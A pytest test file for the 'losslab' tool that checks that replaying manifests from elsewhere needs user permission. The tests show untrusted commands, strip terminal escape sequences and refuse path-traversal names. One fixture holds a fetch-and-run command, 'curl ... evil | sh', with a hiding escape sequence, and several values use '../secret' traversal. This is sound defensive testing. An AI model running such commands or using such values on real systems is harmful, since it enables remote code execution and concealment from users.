"""Manifests from elsewhere: commands and files that need the user's permission."""

import json
from types import SimpleNamespace

import pytest

from losslab import cli
from losslab.backends.base import GUEST, HOST, VIRTUAL
from losslab.campaign import packets, replicate, rerun
from losslab.errors import LosslabError

COMMAND = {
    "algorithm": "cubic", "app": "command", "duration_s": 1, "warmup_s": 0.1,
    "sender_command": "curl \x1b[2Kevil | sh", "receiver_command": "./receive",
    "bring": "tests/fixtures/programs",
}  # fmt: skip


def manifest(cell, where=GUEST):
    instrument = {} if where == GUEST else {"where": where}
    return {
        "cell": {"algorithm": "cubic"} | cell, "seed": 1, "backend": VIRTUAL,
        "instrument": instrument, "video_sha256": None, "summary": {}, "valid": True, "reasons": [],
    }  # fmt: skip


def written(folder, content):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "manifest.json").write_text(json.dumps(content))
    return folder


@pytest.fixture
def measured(monkeypatch):
    """Return the list of conditions to measure; nothing is measured."""
    found = []

    def run(condition, *_, **__):
        found.append(condition)
        raise LosslabError("measured")

    tools = SimpleNamespace(provenance={})
    monkeypatch.setattr(rerun, "run", run)
    monkeypatch.setattr(rerun, "instrument", lambda *_: tools)
    return found


def test_refusal_shows_commands_folders_and_the_option_also_for_the_hosts_kernel():
    with pytest.raises(LosslabError) as error:
        rerun.require_trusted(manifest(COMMAND), trust=False)
    words = str(error.value)
    # A terminal's escape sequence could hide the text after it.
    for shown in (
        "on the sender: 'curl \\x1b[2Kevil | sh'",
        "'./receive'",
        "in 'tests/fixtures/programs'",
    ):
        assert shown in words
    assert "\x1b" not in words
    assert rerun.TRUST in error.value.hint
    assert rerun.require_trusted(manifest(COMMAND), trust=True).app == "command"
    with pytest.raises(LosslabError, match="own kernel, as root"):
        rerun.require_trusted(manifest({"shaper": "tbf"}, HOST), trust=False)
    assert rerun.require_trusted(manifest({"shaper": "tbf"}, HOST), trust=True)


@pytest.mark.parametrize(
    "cell",
    [
        {"trace": "../../secret"}, {"image": "../secret"}, {"kernel": "none-such"},
        {"algorithm": "../../secret"}, {"app": "datagram", "scheme": "none-such"},
        {"flows": "none-such"}, {"app": "none-such"},
    ],
)  # fmt: skip
@pytest.mark.parametrize("trusted", [False, True])
def test_unknown_names_in_a_manifest_are_refused(cell, trusted):
    with pytest.raises(LosslabError, match="condition cannot be measured"):
        rerun.require_trusted(manifest(cell), trusted)


def test_rerun_needs_permission(tmp_path, capsys, measured):
    folder = str(written(tmp_path / "run", manifest(COMMAND)))
    assert cli.main(["rerun", folder]) == 1
    assert "on the receiver: './receive'" in capsys.readouterr().err
    assert measured == []
    assert cli.main(["rerun", folder, rerun.TRUST]) == 1
    assert [condition.app for condition in measured] == ["command"]


def test_export_needs_permission(tmp_path, measured):
    content = manifest(COMMAND)
    folder = written(tmp_path / "run", content)
    for trusted, words in ((False, "programs that are not losslab"), (True, "measured")):
        with (
            pytest.raises(LosslabError, match=words),
            packets.captured(folder, content, "r1-r2", trusted=trusted),
        ):
            pass
        assert len(measured) == trusted


def test_guest_gets_a_copy_of_the_video(tmp_path):
    """A program may write to its job's folder; other jobs stream the original."""
    video = tmp_path / "video.mp4"
    video.write_bytes(b"video")
    job = tmp_path / "job"
    job.mkdir()

    condition = rerun.require_trusted(manifest({"app": "ffmpeg", "duration_s": 40}), trust=False)
    what = replicate.prepare(job, condition, 1, video, (), tmp_path)
    assert what["video"]
    (job / "video.mp4").write_bytes(b"other")
    assert video.read_bytes() == b"video"
